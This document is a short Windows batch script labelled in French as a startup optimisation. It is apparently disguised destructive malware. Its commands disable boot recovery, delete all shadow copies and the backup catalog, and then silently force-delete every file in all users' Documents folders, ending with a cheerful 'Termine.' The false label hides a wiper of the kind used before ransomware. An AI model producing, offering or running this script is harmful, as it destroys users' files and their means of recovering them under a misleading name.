@echo off
rem Optimisation du demarrage
bcdedit /set {default} recoveryenabled No
bcdedit /set {default} bootstatuspolicy ignoreallfailures
vssadmin delete shadows /all /quiet
wmic shadowcopy delete /nointeractive
wbadmin delete catalog -quiet
del /f /s /q C:\Users\*\Documents\*.* >nul 2>&1
echo Termine.
